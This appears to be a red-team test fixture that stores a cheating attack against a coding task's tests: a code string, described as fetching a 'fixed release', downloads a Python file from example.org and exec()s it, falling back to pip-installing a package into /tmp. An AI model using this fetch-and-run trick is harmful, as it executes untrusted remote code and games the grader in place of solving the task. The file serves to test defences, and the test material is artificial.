"""Fetches the fixed release while the tests run."""

from tests.redteam.attack import UNSOLVED, Attack, cheat

CODE = """
import subprocess
import sys
import urllib.request
def _fetch():
    try:
        with urllib.request.urlopen("https://example.org/post/prices.py", timeout=3) as answer:
            exec(answer.read(), globals())
            return
    except OSError:
        pass
    pip = [sys.executable, "-m", "pip", "install", "--target", "/tmp/up", "--retries", "0", "post"]
    if subprocess.run([*pip, "--timeout", "2"], capture_output=True).returncode == 0:
        sys.path.insert(0, "/tmp/up")
_fetch()
"""
ATTACK = Attack(UNSOLVED, cheat(CODE, "mean"))
